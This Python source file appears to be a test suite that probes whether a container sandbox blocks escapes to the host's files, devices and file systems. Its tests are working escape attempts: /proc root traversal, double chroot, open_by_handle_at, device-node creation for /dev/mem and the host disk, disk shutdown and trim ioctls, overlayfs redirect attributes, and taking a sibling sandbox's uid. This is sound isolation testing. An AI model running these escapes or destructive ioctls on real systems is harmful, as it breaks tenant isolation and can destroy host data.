"""The host's files, devices, and the file systems below the sandbox's own."""

import ctypes
import fcntl
import os
import stat
import struct
from errno import EACCES, EINVAL, ENOENT, ENOTTY, ENXIO, EOPNOTSUPP, EPERM, EROFS
from hostile.probe import Held, Outside, attempt
from hostile.system import call, idle_child

THEME = "files"


def read(path):
    with open(path, "rb") as file:
        return file.read(100)


@attempt(THEME, "a host file by its path", ENOENT, control=Outside())
def by_path(world):
    return read(world["host_file"])


@attempt(THEME, "a host file through PID 1's root", ENOENT, EACCES, control=lambda world: read("/proc/self/root/etc/hostname"))
def by_root_of_agent(world):
    return read("/proc/1/root" + world["host_file"])


def through_child(world):
    with open("/tmp/planted", "w") as file:
        file.write("x")
    os.chdir("/tmp")
    return read(f"/proc/{idle_child()}/cwd/planted")


@attempt(THEME, "a host file through any process's root, cwd and descriptors", control=through_child)
def by_any_process(world):
    looked = 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            places = ["root", "cwd"] + ["fd/" + fd for fd in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            places = ["root", "cwd"]
        for place in places:
            looked += 1
            for climb in ("", "/..", "/../../../../../.."):
                try:
                    return pid, place, read(f"/proc/{pid}/{place}{climb}{world['host_file']}")
                except OSError:
                    pass
    raise Held(f"{looked} places looked through")


def climb(path):
    os.makedirs("/tmp/jail", exist_ok=True)
    start = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(start)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return read(path)


@attempt(THEME, "climbing out of the root by a second chroot", ENOENT, control=lambda world: climb("/etc/hostname"))
def climb_out(world):
    return climb(world["host_file"])


def handle(path):
    """A file handle of name_to_handle_at."""
    buffer = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount_id = ctypes.c_int()
    call("name_to_handle_at", -100, path, buffer, ctypes.byref(mount_id), 0)
    return buffer


@attempt(THEME, "a file of another directory by its handle", EPERM, control=Outside())
def by_handle(world):
    place = os.open("/var/lib/docker" if os.path.isdir("/var/lib/docker") and not world["outside"] else "/", os.O_RDONLY)
    return call("open_by_handle_at", place, handle("/var/lib/docker" if not world["outside"] else "/etc"), os.O_RDONLY)


def node(kind, major, minor):
    """Makes a device node where root can write, and opens it."""
    made = None
    for directory in ("/dev", "/tmp", "/var/lib/docker"):
        path = f"{directory}/hostile-{os.getpid()}"
        try:
            os.mknod(path, kind | 0o600, os.makedev(major, minor))
        except FileNotFoundError:
            continue
        except OSError as error:
            made = made or error
            continue
        try:
            os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
            return f"opened {path}"
        except OSError as error:
            return f"made {path}, not opened: {error}"
        finally:
            os.unlink(path)
    raise made


for title, kind, major, minor in (
    ("/dev/mem", stat.S_IFCHR, 1, 1), ("/dev/kmsg", stat.S_IFCHR, 1, 11), ("/dev/loop-control", stat.S_IFCHR, 10, 237),
    ("/dev/kvm", stat.S_IFCHR, 10, 232), ("the host's console", stat.S_IFCHR, 5, 1), ("a loop device", stat.S_IFBLK, 7, 0),
):
    attempt(THEME, f"a node of {title}", EPERM, control=Outside())(lambda world, kind=kind, major=major, minor=minor: node(kind, major, minor))


@attempt(THEME, "a node of the disk that the host runs from", EPERM, control=Outside())
def node_of_host_disk(world):
    return node(stat.S_IFBLK, *world["host_disk"])


@attempt(THEME, "opening the one device that root inside may make", ENXIO, EACCES, control=lambda world: os.open("/dev/null", os.O_RDWR))
def whiteout(world):
    path = "/var/lib/docker/whiteout"  # its disk, without the overlay, which refuses to make it
    os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(0, 0))
    try:
        return os.open(path, os.O_RDONLY)
    finally:
        os.unlink(path)


ALLOWED_DEVICES = {(1, 3), (1, 5), (1, 7), (1, 8), (1, 9), (5, 0), (5, 2), (10, 229), (10, 200)}


def devices():
    found = set()
    for directory, below, names in os.walk("/dev"):
        if ".daytona" in below:
            below.remove(".daytona")  # a whole /proc and /sys
        for name in names:
            status = os.stat(os.path.join(directory, name), follow_symlinks=False)
            if stat.S_ISCHR(status.st_mode) or stat.S_ISBLK(status.st_mode):
                found.add((os.major(status.st_rdev), os.minor(status.st_rdev)))
    return found


@attempt(THEME, "devices that lie about in /dev", control=lambda world: ALLOWED_DEVICES <= devices() or 1 / 0)
def stray_devices(world):
    stray = {device for device in devices() - ALLOWED_DEVICES if not 136 <= device[0] <= 143}  # terminals of the sandbox's own
    if stray:
        return stray
    raise Held("only those of docs/threat-model.md")


def disk_request(number, argument):
    return fcntl.ioctl(os.open("/var/lib/docker/file", os.O_CREAT | os.O_RDWR), number, argument)


def version_of_disk(world):
    return disk_request(0x80086601, bytes(8))  # FS_IOC_GETFLAGS: requests do reach the file system


for title, number, argument in (
    ("growing the file system of its disk", 0x40086610, struct.pack("Q", 1 << 24)),
    ("shutting the file system of its disk down", 0x8004587D, struct.pack("I", 2)),
    ("freezing the file system of its disk", 0xC0045877, struct.pack("I", 0)),
    ("trimming the disk, down to the host's", 0xC0185879, struct.pack("QQQ", 0, 1 << 62, 0)),
    ("swapping a boot loader's inode in", 0x6611, b""),
):
    attempt(THEME, title, EPERM, control=version_of_disk)(lambda world, number=number, argument=argument: disk_request(number, argument))


def own_attribute(world):
    os.setxattr("/root", "user.hostile", b"1")
    return os.getxattr("/root", "user.hostile")


@attempt(THEME, "an attribute that directs overlayfs, of the trusted kind", EPERM, control=own_attribute)
def trusted_attribute(world):
    os.setxattr("/root", "trusted.overlay.redirect", b"/../../..")
    return "set"


def redirected(world):
    os.makedirs("/tmp/redirected", exist_ok=True)
    os.setxattr("/tmp/redirected", "user.overlay.redirect", b"/../../../../etc")
    os.setxattr("/tmp/redirected", "user.overlay.opaque", b"n")
    os.sync()
    names = os.listdir("/tmp/redirected")
    return f"shows {names}" if names else None


@attempt(THEME, "an attribute that directs overlayfs, of the kind users may set", EPERM, EOPNOTSUPP, control=own_attribute)
def user_attribute(world):
    shown = redirected(world)
    if shown:
        return shown
    raise Held("stored under another name: the directory stays empty")


@attempt(THEME, "becoming another sandbox's user", EINVAL, control=lambda world: os.setresuid(1000, 1000, 1000) or "uid 1000")
def uid_of_sibling(world):
    os.setresuid(*[world["sibling_uid"]] * 3)
    return os.getresuid()


def give(uid):
    with open("/tmp/given", "w") as file:
        os.fchown(file.fileno(), uid, uid)
    return os.stat("/tmp/given").st_uid


@attempt(THEME, "giving a set-uid program to the host's root or another sandbox", EINVAL, control=lambda world: give(1000))
def file_of_sibling(world):
    return give(world["sibling_uid"])


@attempt(THEME, "writing into the tools that all sandboxes share", EROFS, control=lambda world: os.open("/tmp/own", os.O_CREAT | os.O_WRONLY))
def write_tools(world):
    return os.open("/.daytona/bin/git" if os.path.exists("/.daytona/bin/git") else "/.daytona/new", os.O_CREAT | os.O_WRONLY)


def lock_of(path):
    file = os.open(path, os.O_RDONLY)
    fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    return f"exclusive lock on {path}"


@attempt(THEME, "locking the agent's file, one for all sandboxes", EACCES, control=lambda world: lock_of("/etc/hostname"))
def lock_agent(world):
    return lock_of("/.daytona/agent")


@attempt(THEME, "paths of the host in the mount table", control=lambda world: read("/proc/self/mountinfo").index(b"/"))
def paths_in_mount_table(world):
    with open("/proc/self/mountinfo") as file:
        named = [line.strip() for line in file if world["data_dir"] in line]
    if named:
        return named
    raise Held("none")


def named_by_loops(below):
    found = []
    for device in os.listdir("/sys/block"):
        if os.path.exists(f"/sys/block/{device}/loop/backing_file"):
            path = read(f"/sys/block/{device}/loop/backing_file").decode()
            found += [path] if path.startswith(below) else []
    if found:
        return found
    raise Held("none")


@attempt(THEME, "paths of the platform and ids of others in the loop devices", control=lambda world: named_by_loops(world["host_loop"]))
def paths_of_loops(world):
    return named_by_loops(world["data_dir"])


@attempt(THEME, "the sibling's id among the loop devices", control=lambda world: os.path.basename(named_by_loops(world["host_loop"])[0]).index("hostile"))
def ids_of_loops(world):
    if world["sibling"] in "".join(named_by_loops("/")):
        return world["sibling"]
    raise Held("not named")


def make_immutable(world):
    file = os.open("/tmp/own", os.O_CREAT | os.O_RDONLY)
    return fcntl.ioctl(file, 0x40086602, struct.pack("Q", 0x10))


attempt(THEME, "a file that nobody can remove (chattr +i)", EPERM, ENOTTY, control=version_of_disk)(make_immutable)
